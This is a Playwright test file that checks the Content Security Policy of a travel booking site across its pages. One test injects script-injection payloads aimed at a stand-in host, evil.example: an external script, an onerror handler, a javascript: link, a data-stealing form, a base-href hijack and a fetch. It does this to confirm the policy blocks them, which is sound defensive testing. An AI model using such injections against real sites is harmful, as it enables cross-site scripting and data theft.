import type { Page } from '@playwright/test'
import { awaken, cards, day, expect, sheet, test } from './screen.ts'

/** What a page's policy has stopped, since the test began; on every page of the tab. */
async function violations(page: Page): Promise<string[]> {
  const seen: string[] = []
  await page.exposeFunction('violated', (what: string) => seen.push(what))
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, documentURI }) => {
      ;(window as unknown as { violated: (what: string) => void }).violated(
        `${effectiveDirective} ${blockedURI} ${new URL(documentURI).pathname}`,
      )
    })
  })
  return seen
}

const STAY = `checkIn=${day(30)}&checkOut=${day(31)}`
const OLD_IPHONE =
  'Mozilla/5.0 (iPhone; CPU iPhone OS 12_5_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.1.2 Mobile/15E148 Safari/604.1'

test.describe('the policy of a page', () => {
  test('stops nothing of our own, on any kind of screen', async ({ page, request, guard }) => {
    // An order that nobody made.
    guard.allow(/status of 40[014] .*\/api\//)
    const seen = await violations(page)
    const { list } = await (
      await request.post('/api/place', {
        headers: { channel: 'narae' },
        data: { checkIn: day(30), checkOut: day(31), adults: 2, children: 0 },
      })
    ).json()
    for (const address of [
      '/narae',
      `/narae/place/results?${STAY}`,
      `/narae/place/result/${list[0].no}?${STAY}`,
      '/narae/place/date',
      '/narae/foreign',
      '/narae/leisure',
      '/narae/rentcar',
      '/narae/reserve',
      '/narae/payment/place',
      '/narae/payment/complete',
      '/narae/noticeLayer',
      '/narae/exhibition',
      '/lotteon/place/results',
      '/homeshop',
      '/cardapp',
      '/ktour',
    ])
      await test.step(address, async () => {
        await page.goto(address)
        await awaken(page)
        await page.evaluate(() => scrollTo(0, document.body.scrollHeight))
      })
    await page.goto(`/narae/place/results/map?${STAY}`)
    await expect(sheet(page, '지도로 보기').locator('canvas')).toBeVisible()
    await expect(
      sheet(page, '지도로 보기')
        .getByRole('button', { name: /만원|곳 모여 있음/ })
        .first(),
    ).toBeVisible()
    expect(seen).toEqual([])
  })

  test('stops nothing of an error, a shop that has not opened, or a page for another browser', async ({
    page,
    guard,
  }) => {
    guard.allow(/status of (?:404|503)/)
    const seen = await violations(page)
    for (const address of ['/narae/nowhere', '/saebom', '/narae/place/result/999999999']) {
      await page.goto(address)
      await expect(page.getByRole('heading').first()).toBeVisible()
    }
    expect(seen).toEqual([])
  })

  test('stops what is not in it: a script, a handler, an address that runs, a form, a picture, a base', async ({
    page,
    guard,
  }) => {
    guard.allow(/Content Security Policy|404 .*\/none/)
    const seen = await violations(page)
    await page.goto('/narae')
    await page.evaluate(() => {
      const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html)
      const inline = document.createElement('script')
      inline.textContent = 'window.ran = "inline"'
      const foreign = document.createElement('script')
      foreign.src = 'https://evil.example/a.js'
      for (const script of [inline, foreign]) document.head.appendChild(script)
      add('<img src="/none" onerror="window.ran = \'handler\'">')
      add('<img src="https://evil.example/pixel">')
      add('<a id="run" href="javascript:window.ran = 1">x</a>')
      add('<form id="steal" action="https://evil.example/"><button>x</button></form>')
      add('<base href="https://evil.example/">')
      add('<iframe src="https://evil.example/"></iframe>')
      document.getElementById('run')?.click()
      ;(document.getElementById('steal') as HTMLFormElement).requestSubmit()
      fetch('https://evil.example/').catch(() => undefined)
    })
    await expect
      .poll(() => [...new Set(seen.map((each) => each.split(' ')[0]))].sort())
      .toEqual(
        ['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem'].sort(),
      )
    expect(seen.filter((each) => each.startsWith('script-src'))).toHaveLength(4)
    expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  })

  test.describe('on an old iPhone', () => {
    test.use({ userAgent: OLD_IPHONE })

    test('stops nothing of what it is given beside', async ({ page }) => {
      const seen = await violations(page)
      await page.addInitScript(() => {
        Reflect.deleteProperty(URL, 'canParse')
        Reflect.deleteProperty(Object, 'hasOwn')
      })
      await page.goto(`/narae/place/results?${STAY}`)
      await expect(page.locator('html')).toHaveClass(/ios-old/)
      expect(await page.evaluate(() => Object.hasOwn({ a: 1 }, 'a'))).toBe(true)
      await awaken(page)
      await expect(cards(page).first()).toBeVisible()
      expect(seen).toEqual([])
    })
  })
})
